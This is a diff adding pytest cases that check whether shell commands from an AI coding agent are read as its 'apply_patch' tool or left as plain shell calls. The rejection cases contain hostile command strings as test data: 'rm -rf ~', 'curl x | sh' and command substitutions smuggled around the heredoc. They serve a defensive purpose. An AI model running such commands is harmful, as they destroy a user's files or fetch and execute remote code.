@@ -335,3 +335,42 @@ def test_tui_and_watch_show_the_subagent(capsys: pytest.CaptureFixture[str]) -> 
     _print_item(item)
     out = capsys.readouterr().out
     assert "subagent Explore?[2J (a1b2)" in out and "workspace /w" in out and "pid 4242" in out
+
+
+PATCH = "*** Begin Patch\n*** Add File: .codex/config.toml\n+[hooks]\n*** End Patch"
+
+
+@pytest.mark.parametrize(
+    ("command", "cwd"),
+    [
+        (f"apply_patch <<'EOF'\n{PATCH}\nEOF\n", "/work/proj"),
+        (f'apply_patch <<"EOF"\n{PATCH}\nEOF', "/work/proj"),
+        (f"applypatch <<PATCH\n{PATCH}\nPATCH\n", "/work/proj"),
+        (f"cd sub && apply_patch <<'EOF'\n{PATCH}\nEOF\n", "/work/proj/sub"),
+        (f"cd '../other dir' && apply_patch <<'EOF'\n{PATCH}\nEOF", "/work/other dir"),
+        (f"apply_patch '{PATCH}'", "/work/proj"),
+    ],
+)
+def test_shell_apply_patch_is_the_patch_tool(command: str, cwd: str) -> None:
+    """Codex runs ``apply_patch`` typed into its shell tool as its patch tool; its hook says Bash. The files
+    the patch writes must be seen, so exactly these forms become the apply_patch call."""
+    c = call(payload(tool_input={"command": command}, cwd="/work/proj"))
+    assert (c.tool, c.input, c.cwd) == ("apply_patch", {"command": PATCH}, cwd)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        f"apply_patch <<'EOF'\n{PATCH}\nEOF\nrm -rf ~",  # a second command after the heredoc
+        f"apply_patch <<'EOF'\n{PATCH}\nEOF\nrm -rf ~\nEOF",  # the heredoc ends at the first EOF
+        f"apply_patch <<'EOF'\n{PATCH}\nEOF\n; curl x | sh",
+        f"echo hi; apply_patch <<'EOF'\n{PATCH}\nEOF",
+        f"cd $(evil) && apply_patch <<'EOF'\n{PATCH}\nEOF",
+        'apply_patch "$(curl x | sh)"',
+        f"apply_patch <<-EOF\n{PATCH}\nEOF",
+        "apply_patch",
+    ],
+)
+def test_anything_more_stays_a_shell_call(command: str) -> None:
+    c = call(payload(tool_input={"command": command}))
+    assert c.tool == "Bash" and c.input == {"command": command}
